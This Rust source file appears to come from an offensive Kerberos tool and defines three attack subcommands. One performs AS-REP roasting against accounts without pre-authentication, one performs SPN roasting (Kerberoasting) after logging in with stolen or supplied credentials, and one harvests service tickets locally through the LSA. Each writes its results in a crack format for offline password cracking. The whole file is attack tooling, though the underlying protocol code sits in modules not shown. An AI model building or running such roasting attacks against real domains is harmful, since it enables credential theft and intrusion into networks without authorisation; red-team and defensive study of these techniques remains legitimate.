use super::{load_credential, login};
use crate::args::{AsRepRoastArgs, SpnRoastArgs, SspiRoastArgs, TargetArgs};
use crate::context::RunContext;
use crate::error::Result;
use crate::kerberos::sspi::LsaHarvester;
use crate::kerberos::{kdc, run_batch, targets, BatchOptions, EtypeChoice, Roaster, TargetDescriptor};
use crate::output::{render_batch, OutputSink};

fn resolve_targets(args: &TargetArgs) -> Result<Vec<TargetDescriptor>> {
    let targets = targets::resolve(
        args.targets_file.as_deref(),
        &args.users,
        args.realm.as_deref(),
    )?;
    log::info!("Loaded {} target(s)", targets.len());
    Ok(targets)
}

pub fn asreproast(args: &AsRepRoastArgs, ctx: &RunContext) -> Result<()> {
    let targets = resolve_targets(&args.targets)?;
    let kdc = kdc::connect(&args.address, ctx)?;

    let roaster = Roaster::PreAuthless { kdc: &kdc };
    let options = BatchOptions {
        skip_ticket_granting_accounts: false,
        crack_format: args.crack_format,
    };

    let batch = run_batch(&targets, &roaster, &args.etype.resolve(), options, ctx);
    render_batch(&batch, &OutputSink::new(args.output.as_deref()))
}

pub fn spnroast(args: &SpnRoastArgs, ctx: &RunContext) -> Result<()> {
    let credential = load_credential(&args.connection)?;
    let targets = resolve_targets(&args.targets)?;
    let kdc = kdc::connect(&credential.endpoint, ctx)?;
    let session = login(&kdc, &credential)?;
    log::info!("Got TGT for {}", credential.target());

    let roaster = Roaster::ServiceTicket {
        kdc: &kdc,
        session: &session,
    };
    let options = BatchOptions {
        skip_ticket_granting_accounts: false,
        crack_format: args.crack_format,
    };

    let batch = run_batch(&targets, &roaster, &args.etype.resolve(), options, ctx);
    render_batch(&batch, &OutputSink::new(args.output.as_deref()))
}

pub fn spnroast_sspi(args: &SspiRoastArgs, ctx: &RunContext) -> Result<()> {
    let targets = resolve_targets(&args.targets)?;
    let harvester = LsaHarvester::new()?;

    let roaster = Roaster::LocalHarvest {
        harvester: &harvester,
    };
    let options = BatchOptions {
        skip_ticket_granting_accounts: false,
        crack_format: args.crack_format,
    };

    // The LSA picks the etype, so anything it returns is accepted.
    let batch = run_batch(&targets, &roaster, &EtypeChoice::All.resolve(), options, ctx);
    render_batch(&batch, &OutputSink::new(args.output.as_deref()))
}
